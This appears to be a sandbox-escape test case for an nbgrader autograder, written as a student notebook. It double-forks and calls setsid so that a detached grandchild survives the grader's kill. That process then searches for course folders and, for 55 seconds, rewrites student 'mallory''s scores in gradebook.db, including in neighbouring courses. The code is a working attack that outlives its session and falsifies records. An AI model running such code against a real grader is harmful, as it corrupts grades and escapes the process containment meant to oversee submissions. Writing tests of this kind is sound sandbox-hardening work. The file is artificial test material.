# tries: a grandchild in a session of its own outlives the grader's kill and goes on to the gradebook and the neighbours
# base: stub
# may score: 0
# %% first
import os, sys


def course_roots():
    """Folders with an nbgrader_config.py at or above likely places."""
    named = [v for k, v in os.environ.items() if k in ("PWD", "OLDPWD") or k.startswith(("NBGRADER", "AUTOGRADER", "FLATGRAD"))]
    found = []
    for seed in [os.getcwd(), *named, *sys.path]:
        here = os.path.realpath(seed or ".")
        while here != os.path.dirname(here):
            if here not in found and os.path.isfile(os.path.join(here, "nbgrader_config.py")):
                found.append(here)
            here = os.path.dirname(here)
    return found

import glob, json, sqlite3, time


def later():
    end = time.time() + 55
    while time.time() < end:
        for root in course_roots():
            try:
                book = sqlite3.connect(os.path.join(root, "gradebook.db"), timeout=1) if os.path.isfile(os.path.join(root, "gradebook.db")) else None
                if book:
                    book.execute("update grade set manual_score = 3 where notebook_id in (select n.id from submitted_notebook n "
                                 "join submitted_assignment a on n.assignment_id = a.id where a.student_id = 'mallory')")
                    book.commit()
                    book.close()
            except sqlite3.Error:
                pass
        time.sleep(0.5)


try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                later()
            finally:
                os._exit(0)
        os._exit(0)
    print("BREACH a daemon was started")
except OSError as error:
    print("fork:", error)
